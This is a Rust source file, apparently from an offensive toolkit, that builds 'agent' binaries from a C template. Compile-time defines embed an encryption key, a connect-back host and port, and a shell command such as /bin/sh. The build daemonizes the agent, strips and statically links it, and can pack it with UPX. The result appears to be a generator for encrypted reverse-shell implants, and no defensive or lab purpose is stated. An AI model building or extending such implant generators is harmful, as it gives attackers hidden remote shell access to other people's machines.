//! Agent-binary factory: compiles a configured agent binary on demand
//! (spec.md §4.6, §7 `CompilerFailure`/`InvalidInput`).

use std::fmt::Write as _;
use std::path::PathBuf;
use thiserror::Error;
use tokio::process::Command;
use tracing::{error, info};

/// Path to the fixed agent C source the factory always compiles from,
/// resolved relative to this crate's own source tree so the compiler
/// reads a real file, not a pipe or an embedded string
/// (`CARGO_MANIFEST_DIR` is baked in at our own compile time, the file
/// read happens fresh on every build request).
const TEMPLATE_PATH: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/src/agent_template.c");

/// Injected build tool configuration. No hidden global state.
#[derive(Debug, Clone)]
pub struct FactoryConfig {
    pub compiler: PathBuf,
    pub compiler_args: Vec<String>,
    pub upx: PathBuf,
}

impl Default for FactoryConfig {
    fn default() -> Self {
        Self {
            compiler: PathBuf::from("zig"),
            compiler_args: vec![
                "-flto".into(),
                "-Oz".into(),
                "-s".into(),
                "-static".into(),
            ],
            upx: PathBuf::from("upx"),
        }
    }
}

/// One requested agent build.
#[derive(Debug, Clone)]
pub struct BuildRequest {
    pub secret: String,
    pub host: String,
    pub port: u16,
    pub target_arch: String,
    pub shell_command: String,
    pub buffer_length: u32,
    pub upx_compress: bool,
    pub extra_args: Vec<String>,
}

#[derive(Debug, Error)]
pub enum FactoryError {
    #[error("invalid build input: {0}")]
    InvalidInput(String),
    #[error("compiler exited with {code}: {stderr}")]
    CompilerFailure { code: i32, stderr: String },
    #[error("upx exited with {code}: {stderr}")]
    CompressionFailure { code: i32, stderr: String },
    #[error("I/O error: {0}")]
    Io(#[from] std::io::Error),
}

/// Escape `s` as a C string literal (spec.md §4.6, §8 P7).
///
/// Each ASCII character other than `"` and `\` is emitted verbatim;
/// every other Unicode scalar is emitted byte-for-byte as lowercase
/// `\xHH` over its UTF-8 encoding.
pub fn c_string_escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    let mut byte_buf = [0u8; 4];
    for ch in s.chars() {
        if ch.is_ascii() && ch != '"' && ch != '\\' {
            out.push(ch);
        } else {
            for byte in ch.encode_utf8(&mut byte_buf).as_bytes() {
                let _ = write!(out, "\\x{:02x}", byte);
            }
        }
    }
    out.push('"');
    out
}

/// Escape raw `bytes` as a C char-array compound literal (spec.md §4.6,
/// §8 P7). Used for `ENCRYPTION_KEY`, which must survive embedded NUL or
/// high bytes that a `-D` string define cannot carry.
pub fn c_char_array_escape(bytes: &[u8]) -> String {
    if bytes.is_empty() {
        return "(char[]) { }".to_string();
    }
    let parts: Vec<String> = bytes.iter().map(u8::to_string).collect();
    format!("(char[]) {{ {} }}", parts.join(", "))
}

/// Compile an agent binary per `req` using `cfg`'s toolchain (spec.md
/// §4.6). The temp directory that holds the build is released on every
/// exit path because it's a single local `TempDir` whose `Drop` runs
/// regardless of which `?` fires first.
pub async fn build(cfg: &FactoryConfig, req: &BuildRequest) -> Result<Vec<u8>, FactoryError> {
    if !req.secret.is_ascii() {
        return Err(FactoryError::InvalidInput(
            "secret must be ASCII".to_string(),
        ));
    }
    if req.port == 0 {
        return Err(FactoryError::InvalidInput(
            "port must be in 1..=65535".to_string(),
        ));
    }

    let tempdir = tempfile::TempDir::new()?;
    let source_path = tempdir.path().join("agent_template.c");
    std::fs::copy(TEMPLATE_PATH, &source_path)?;
    let output_path = tempdir.path().join("agent");

    let encryption_key = c_char_array_escape(req.secret.as_bytes());
    let connect_host = c_string_escape(&req.host);
    let shell_command = c_string_escape(&req.shell_command);

    let target = format!("{}-linux-musl", req.target_arch);

    let mut command = Command::new(&cfg.compiler);
    command
        .arg("cc")
        .arg(format!("--target={target}"))
        .arg(format!("-DENCRYPTION_KEY={encryption_key}"))
        .arg(format!("-DCONNECT_HOST={connect_host}"))
        .arg(format!("-DCONNECT_PORT={}", req.port))
        .arg(format!("-DSHELL_COMMAND={shell_command}"))
        .arg(format!("-DBUFFER_LENGTH={}", req.buffer_length))
        .arg("-DDAEMONIZE=1")
        .args(&cfg.compiler_args)
        .args(&req.extra_args)
        .arg("-o")
        .arg(&output_path)
        .arg(&source_path);

    info!(target = %target, "invoking agent compiler");
    let output = command.output().await?;
    if !output.status.success() {
        let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
        let code = output.status.code().unwrap_or(-1);
        error!(code, %stderr, "agent compiler failed");
        return Err(FactoryError::CompilerFailure { code, stderr });
    }

    if req.upx_compress {
        let upx_output = Command::new(&cfg.upx)
            .arg("--best")
            .arg(&output_path)
            .output()
            .await?;
        if !upx_output.status.success() {
            let stderr = String::from_utf8_lossy(&upx_output.stderr).into_owned();
            let code = upx_output.status.code().unwrap_or(-1);
            error!(code, %stderr, "upx compression failed");
            return Err(FactoryError::CompressionFailure { code, stderr });
        }
    }

    let bytes = tokio::fs::read(&output_path).await?;
    Ok(bytes)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escapes_quote_and_backslash_but_not_plain_ascii() {
        // "abc\"d\\n" in the spec's literal notation is the 7 raw bytes
        // a b c " d \ n (not a newline).
        let input = "abc\"d\\n";
        assert_eq!(c_string_escape(input), "\"abc\\x22d\\x5cn\"");
    }

    #[test]
    fn plain_ascii_round_trips_verbatim() {
        assert_eq!(c_string_escape("hello"), "\"hello\"");
    }

    #[test]
    fn non_ascii_scalar_escapes_every_utf8_byte() {
        // 'é' is U+00E9, UTF-8 encoded as 0xC3 0xA9.
        assert_eq!(c_string_escape("é"), "\"\\xc3\\xa9\"");
    }

    #[test]
    fn char_array_escape_matches_spec_example() {
        assert_eq!(c_char_array_escape(&[0, 255]), "(char[]) { 0, 255 }");
    }

    #[test]
    fn char_array_escape_handles_empty_input() {
        assert_eq!(c_char_array_escape(&[]), "(char[]) { }");
    }

    #[tokio::test]
    async fn non_ascii_secret_is_rejected_before_any_subprocess_spawn() {
        let cfg = FactoryConfig::default();
        let req = BuildRequest {
            secret: "bad-sécret".to_string(),
            host: "127.0.0.1".to_string(),
            port: 4444,
            target_arch: "x86_64".to_string(),
            shell_command: "/bin/sh".to_string(),
            buffer_length: 4096,
            upx_compress: false,
            extra_args: vec![],
        };
        let result = build(&cfg, &req).await;
        assert!(matches!(result, Err(FactoryError::InvalidInput(_))));
    }

    #[tokio::test]
    async fn zero_port_is_rejected() {
        let cfg = FactoryConfig::default();
        let req = BuildRequest {
            secret: "goodsecret".to_string(),
            host: "127.0.0.1".to_string(),
            port: 0,
            target_arch: "x86_64".to_string(),
            shell_command: "/bin/sh".to_string(),
            buffer_length: 4096,
            upx_compress: false,
            extra_args: vec![],
        };
        let result = build(&cfg, &req).await;
        assert!(matches!(result, Err(FactoryError::InvalidInput(_))));
    }

    #[tokio::test]
    async fn compiler_failure_surfaces_exit_code_and_stderr() {
        // Pointing "zig" at a compiler binary that doesn't understand
        // `--no-such` reproduces spec.md §8 scenario 6 without requiring
        // zig to actually be installed in the test environment: any
        // executable that exits non-zero and writes to stderr exercises
        // the same path. `false` always exits 1.
        let cfg = FactoryConfig {
            compiler: PathBuf::from("false"),
            ..FactoryConfig::default()
        };
        let req = BuildRequest {
            secret: "goodsecret".to_string(),
            host: "127.0.0.1".to_string(),
            port: 4444,
            target_arch: "x86_64".to_string(),
            shell_command: "/bin/sh".to_string(),
            buffer_length: 4096,
            upx_compress: false,
            extra_args: vec!["--no-such".to_string()],
        };
        let result = build(&cfg, &req).await;
        assert!(matches!(result, Err(FactoryError::CompilerFailure { .. })));
    }
}
